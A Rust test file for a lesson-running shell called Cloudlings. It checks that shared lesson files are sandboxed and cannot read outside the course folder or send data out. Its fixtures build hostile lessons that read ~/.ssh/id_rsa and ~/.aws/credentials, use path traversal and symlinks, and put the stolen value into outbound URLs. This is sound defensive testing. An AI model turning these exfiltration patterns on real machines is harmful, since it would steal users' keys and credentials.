//! Lessons are untrusted input: a lesson file someone shared may teach, never steal. Each
//! lesson here tries to take a secret from the learner's machine, or to send what it read
//! somewhere; the shell refuses, says why, and nothing leaves or is saved.

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;

use crate::Cloudlings;

/// A two-step lesson: the first binds `k` from `probe` (after a check that the learner's
/// `here.txt` exists), the second fetches `url`.
fn exfiltrating_lesson(dir: &Path, probe: &str, url: &str) {
    let lesson = format!(
        r#"format_version = 1
id = "evil"
order = 1
title = {{ en = "A lesson", ko = "수업" }}
summary = {{ en = "Two steps.", ko = "두 단계." }}

[[steps]]
id = "take"
kind = "task"
text = {{ en = "Make here.txt.", ko = "here.txt를 만드세요." }}
solution = ["!touch here.txt"]

[[steps.checks]]
label = {{ en = "here.txt exists", ko = "here.txt가 있다" }}
reason = {{ en = "There is no here.txt.", ko = "here.txt가 없습니다." }}
probe.file = "here.txt"
query = "exists"
expect = "=="
value = true

[[steps.binds]]
name = "k"
{probe}
query = "text"

[[steps]]
id = "send"
kind = "task"
text = {{ en = "Wait.", ko = "기다리세요." }}
solution = ["!true"]

[[steps.checks]]
label = {{ en = "the page answers", ko = "페이지가 응답한다" }}
reason = {{ en = "It does not.", ko = "응답하지 않습니다." }}
probe.http = "{url}"
query = "status"
expect = "=="
value = 200

[overview]
minutes = 1
builds = {{ en = "Nothing.", ko = "없음." }}
"#
    );
    std::fs::create_dir_all(dir).expect("lessons");
    std::fs::write(dir.join("evil.toml"), lesson).expect("lesson");
}

/// A listener standing for someone else's server; how many connections it got.
struct Collector(TcpListener);

impl Collector {
    fn new() -> Collector {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.set_nonblocking(true).expect("nonblocking");
        Collector(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().expect("addr").port()
    }

    /// What reached it, if anything did.
    fn received(&self) -> Option<String> {
        let (mut stream, _) = self.0.accept().ok()?;
        stream.set_nonblocking(false).ok()?;
        stream
            .set_read_timeout(Some(std::time::Duration::from_secs(2)))
            .ok()?;
        let mut buf = vec![0u8; 4096];
        let n = stream.read(&mut buf).unwrap_or(0);
        Some(String::from_utf8_lossy(&buf[..n]).into_owned())
    }
}

/// Every file under `dir`, read as text, for a secret that must not be there.
fn anything_holds(dir: &Path, secret: &str) -> Option<String> {
    let mut found = None;
    for entry in std::fs::read_dir(dir).ok()?.flatten() {
        let path = entry.path();
        if path.is_dir() {
            found = found.or_else(|| anything_holds(&path, secret));
        } else if std::fs::read(&path)
            .is_ok_and(|bytes| String::from_utf8_lossy(&bytes).contains(secret))
        {
            found = Some(path.display().to_string());
        }
    }
    found
}

fn learner(lessons: &Path, home: &Path) -> Cloudlings {
    learner_in("en", lessons, home)
}

fn learner_in(lang: &str, lessons: &Path, home: &Path) -> Cloudlings {
    let shell = Cloudlings::new()
        .arg("--lang")
        .arg(lang)
        .arg("--lessons")
        .arg(lessons.display().to_string())
        .env("HOME", &home.display().to_string());
    std::fs::write(shell.work_dir().join("here.txt"), "made by the learner\n").expect("here");
    shell
}

#[test]
fn a_lesson_cannot_read_outside_the_course_folder_nor_send_to_this_machine() {
    let home = tempfile::tempdir().expect("home");
    std::fs::create_dir(home.path().join(".ssh")).expect(".ssh");
    std::fs::write(
        home.path().join(".ssh/id_rsa"),
        "PRIVATE-KEY-OF-THE-LEARNER",
    )
    .expect("key");
    let lessons = tempfile::tempdir().expect("lessons");
    let collector = Collector::new();
    for probe in [
        "probe.file = \"~/.ssh/id_rsa\"".to_string(),
        format!("probe.file = \"{}/.ssh/id_rsa\"", home.path().display()),
        "probe.file = \"../../../../../../../../etc/hostname\"".to_string(),
    ] {
        exfiltrating_lesson(
            lessons.path(),
            &probe,
            &format!("http://127.0.0.1:{}/c?k={{k}}", collector.port()),
        );
        let shell = learner(lessons.path(), home.path());
        let run = shell
            .session("start evil\ncheck\nnext\ncheck\nquit\n")
            .success();
        let out = run.stdout();
        assert!(
            out.contains("this lesson may not look at 127.0.0.1"),
            "{probe}: {out}"
        );
        assert_eq!(collector.received(), None, "{probe}: a request left");
        assert_eq!(
            anything_holds(shell.data_dir(), "PRIVATE-KEY"),
            None,
            "{probe}: the key was saved"
        );
    }
    // A Korean learner reads why in Korean, with the place named as it was written.
    let run = learner_in("ko", lessons.path(), home.path())
        .session("start evil\ncheck\nnext\ncheck\nquit\n")
        .success();
    assert!(
        run.stdout().contains(
            "확인하지 못했습니다: 이 수업은 127.0.0.1에 접근할 수 없습니다. 에뮬레이션된 클라우드의 호스트가 아닙니다"
        ),
        "{}",
        run.stdout()
    );
}

#[test]
fn a_link_in_the_course_folder_does_not_lead_out_of_it() {
    let home = tempfile::tempdir().expect("home");
    std::fs::create_dir(home.path().join(".aws")).expect(".aws");
    std::fs::write(
        home.path().join(".aws/credentials"),
        "aws_secret=SECRET-OF-AWS",
    )
    .expect("c");
    let lessons = tempfile::tempdir().expect("lessons");
    exfiltrating_lesson(
        lessons.path(),
        "probe.file = \"linked/credentials\"",
        "http://{k}.cloudfront.net/",
    );
    let shell = learner(lessons.path(), home.path());
    std::os::unix::fs::symlink(home.path().join(".aws"), shell.work_dir().join("linked"))
        .expect("link");
    let run = shell
        .session("start evil\ncheck\nnext\ncheck\nquit\n")
        .success();
    assert!(!run.stdout().contains("SECRET-OF-AWS"), "{}", run.stdout());
    assert_eq!(anything_holds(shell.data_dir(), "SECRET-OF-AWS"), None);
}

#[test]
fn what_a_lesson_reads_in_the_course_folder_is_neither_sent_nor_saved() {
    let home = tempfile::tempdir().expect("home");
    let lessons = tempfile::tempdir().expect("lessons");
    // A file in the course folder may be read, for a check; its contents stay here.
    exfiltrating_lesson(
        lessons.path(),
        "probe.file = \"key.pem\"",
        "http://{k}.cloudfront.net/",
    );
    let shell = learner(lessons.path(), home.path());
    std::fs::write(shell.work_dir().join("key.pem"), "KEYMATERIAL").expect("key.pem");
    let run = shell
        .session("start evil\ncheck\nnext\ncheck\nquit\n")
        .success();
    let out = run.stdout();
    assert!(
        out.contains("with {k} in it, which was read from a file"),
        "{out}"
    );
    assert_eq!(anything_holds(shell.data_dir(), "KEYMATERIAL"), None);
}

#[test]
fn a_solution_naming_an_endless_file_does_not_read_it() {
    let lessons = tempfile::tempdir().expect("lessons");
    exfiltrating_lesson(lessons.path(), "probe.file = \"here.txt\"", "http://x/");
    let lesson = lessons.path().join("evil.toml");
    let text = std::fs::read_to_string(&lesson).expect("lesson");
    std::fs::write(
        &lesson,
        text.replace(
            "!touch here.txt",
            "!echo {totp_now:/dev/zero} {totp_now:../x}",
        ),
    )
    .expect("rewrite");
    let home = tempfile::tempdir().expect("home");
    let run = learner(lessons.path(), home.path())
        .session("start evil\nsolution\ny\nquit\n")
        .success();
    assert!(
        run.stdout()
            .contains("!echo {totp_now:/dev/zero} {totp_now:../x}"),
        "{}",
        run.stdout()
    );
}

/// A one-step lesson whose check reads `~/notes/seed.txt`, which it declares.
fn declaring_lesson(dir: &Path) {
    let lesson = r#"format_version = 1
id = "declared"
order = 1
title = { en = "Your notes", ko = "내 노트" }
summary = { en = "One step.", ko = "한 단계." }
reach = { files = ["~/notes/seed.txt"] }

[[steps]]
id = "look"
kind = "task"
text = { en = "Keep a seed in ~/notes/seed.txt.", ko = "~/notes/seed.txt에 시드를 두세요." }
solution = ["!true"]

[[steps.checks]]
label = { en = "the seed is there", ko = "시드가 있다" }
reason = { en = "There is no seed.", ko = "시드가 없습니다." }
probe.file = "~/notes/seed.txt"
query = "exists"
expect = "=="
value = true

[overview]
minutes = 1
builds = { en = "Nothing.", ko = "없음." }
"#;
    std::fs::create_dir_all(dir).expect("lessons");
    std::fs::write(dir.join("declared.toml"), lesson).expect("lesson");
}

#[test]
fn what_a_lesson_declares_is_asked_once_and_allowed_only_on_yes() {
    let home = tempfile::tempdir().expect("home");
    std::fs::create_dir(home.path().join("notes")).expect("notes");
    std::fs::write(home.path().join("notes/seed.txt"), "JBSWY3DP").expect("seed");
    let lessons = tempfile::tempdir().expect("lessons");
    declaring_lesson(lessons.path());
    let shell = learner(lessons.path(), home.path());

    // A typo refuses for this run only: the check cannot look, nothing more is asked, and
    // the question comes back at the next start.
    let slipped = shell
        .session("start declared\nyse\ncheck\nshow\nquit\n")
        .success();
    let out = slipped.stdout();
    assert!(
        out.contains("The lesson \"Your notes\" asks to look beyond the course folder")
            && out.contains("files: ~/notes/seed.txt"),
        "{out}"
    );
    assert!(out.contains("Not allowed for now"), "{out}");
    assert_eq!(out.matches("asks to look beyond").count(), 1, "{out}");
    assert!(out.contains("may not look at ~/notes/seed.txt"), "{out}");

    // No, at the next start: remembered, and the check says it could not look.
    let refused = shell.session("n\ncheck\nquit\n").success();
    let out = refused.stdout();
    assert!(out.contains("asks to look beyond"), "asked again: {out}");
    assert!(out.contains("Not allowed: "), "{out}");
    assert!(
        out.contains("this lesson may not look at ~/notes/seed.txt"),
        "{out}"
    );

    // The answer is remembered: no question at the next start, and still no reach.
    let again = shell.session("check\nquit\n").success();
    assert!(
        !again.stdout().contains("asks to look beyond"),
        "{}",
        again.stdout()
    );
    assert!(
        again.stdout().contains("may not look at"),
        "{}",
        again.stdout()
    );

    // A changed file is asked about again; yes lets the check look.
    let lesson = lessons.path().join("declared.toml");
    let text = std::fs::read_to_string(&lesson).expect("lesson");
    std::fs::write(&lesson, text.replace("One step.", "One step, changed.")).expect("change");
    let allowed = shell.session("y\ncheck\nquit\n").success();
    let out = allowed.stdout();
    assert!(
        out.contains("asks to look beyond") && out.contains("Allowed"),
        "{out}"
    );
    assert!(out.contains("1/1 passed"), "{out}");
}

#[test]
fn a_lesson_declaring_what_is_not_a_host_is_refused_with_its_place() {
    let lessons = tempfile::tempdir().expect("lessons");
    declaring_lesson(lessons.path());
    let lesson = lessons.path().join("declared.toml");
    let text = std::fs::read_to_string(&lesson).expect("lesson");
    std::fs::write(
        &lesson,
        text.replace(
            "reach = { files = [\"~/notes/seed.txt\"] }",
            "reach = { hosts = [\"http://example.com:80/\"] }",
        ),
    )
    .expect("rewrite");
    let run = Cloudlings::new().run(&["lesson", "lint", &lesson.display().to_string()]);
    let out = format!("{}{}", run.stdout(), run.stderr());
    assert_ne!(run.code(), Some(0), "{out}");
    assert!(
        out.contains("declared.toml:6:") && out.contains("is not a host name"),
        "{out}"
    );
}
